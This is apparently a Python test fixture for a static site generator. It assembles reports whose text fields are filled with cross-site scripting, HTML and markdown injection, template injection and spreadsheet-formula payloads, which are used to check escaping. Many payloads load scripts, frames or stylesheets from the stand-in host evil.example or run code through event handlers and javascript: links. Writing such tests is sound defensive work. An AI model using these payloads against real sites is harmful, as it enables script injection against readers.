"""Reports in which every text of a stranger tries to run, to load or to break the page."""

from dataclasses import replace

from generator.escape import clean
from generator.types import Report
from tests import test_site

RUN = "window.hit=1"
LOAD = "https://evil.example/load"
KINDS = (
    f"<script>{RUN}</script><script src={LOAD}></script>",
    f"</title></script></style></textarea></template><script>{RUN}</script>",
    f"<iframe src='javascript:{RUN}'></iframe><object data={LOAD}></object><embed src={LOAD}>",
    f"<form action={LOAD}><input name=id autofocus onfocus={RUN}><button formaction={LOAD}>go",
    f"<style>@import '{LOAD}'; * {{ display: none }}</style><link rel=stylesheet href={LOAD}>",
    f"<base href=https://evil.example/><meta http-equiv=refresh content='0;url={LOAD}'>",
    f"<svg onload={RUN}><image href={LOAD} /></svg><math href='javascript:{RUN}'><mi>x</mi></math>",
    f"<img src={LOAD} onerror={RUN}> <video src={LOAD} onerror={RUN}> <details ontoggle={RUN}>",
    f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
    f"' onmouseover='{RUN}' accesskey='x",
    f"[a](javascript:{RUN}) <javascript:{RUN}> [b](data:text/html,<script>{RUN}</script>)",
    f"![remote]({LOAD}.png) ![ref][r]\n\n[r]: {LOAD}.png",
    f"x {{: onclick={RUN} onmouseover={RUN} #report .md-header style=display:none }}",
    f"/// html | script\n{RUN}\n///",
    "--8<-- 'mkdocs.yml' :smile: {++ins++} {--del--} $$x^2$$ \\(y\\)",
    f"```mermaid\ngraph TD; a[<img src={LOAD} onerror={RUN}>]\n```\n~~~ x ` `` ```",
    "# heading\n\nsetext\n======\n\n- list\n\n> quote\n\n| a | b |\n|---|---|\n| c | d |\n\n* * *",
    '[^1]\n\n[^1]: foot\n\n*[noise]: abbr\n\n!!! danger\n    x\n\n=== "tab"\n    x\n\n??? a\n    x',
    "- [ ] task\n\nterm\n: definition\n\nkey: value\ntitle: other",
    "---\ntitle: other\nhide: [toc]\ntemplate: 404.html\n---",
    "{{ config.__class__ }} {% include 'main.html' %} {# gone #} {% raw %}",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;img src=x onerror={RUN}&amp;gt; &#60;b&#62;",
    f"<scr<script>ipt>{RUN}</scr</script>ipt> <b <i <!-- <![CDATA[ <?php --!> ]]>",
    "</article></section></div></main></body></html></summary></details></td></table></svg>",
    f"| a | b\t\x00\x07 \u202ereversed\u202c zero\u200bwidth \U000e0041tag \ud800 ]]> {RUN}",
    "Z" + "\u0301\u0489" * 200,
    "W" * 900,
    f'</script><script>{RUN}</script> "}},{{"@context":"{LOAD}"}}',
    '=HYPERLINK("https://evil.example") @book{x, title={\\input{x}}} TY  - BOOK ER  -',
    f"{LOAD} www.evil.example me@evil.example",
)
"""One or two of each kind of text that has run, loaded or broken something on pages elsewhere."""
PAYLOADS = (*KINDS, *test_site.PAYLOADS)
GROUPS = tuple(" ".join(PAYLOADS[n::11]) for n in range(11))
"""What stands in every foreign text of each report: several payloads one behind the other."""


def reports() -> tuple[Report, ...]:
    """One report a group, enough of them that their table can be filtered; and the first again, so
    that works and claims of several reports are among them."""
    made = [test_site.everywhere(payload) for payload in (*GROUPS, GROUPS[0])]
    return tuple(
        replace(report, question=replace(report.question, slug=f"hostile-{n}"))
        for n, report in enumerate(made)
    )


def visible(payload: str) -> str:
    """The payload as a reader sees it."""
    return " ".join(clean(payload).split())
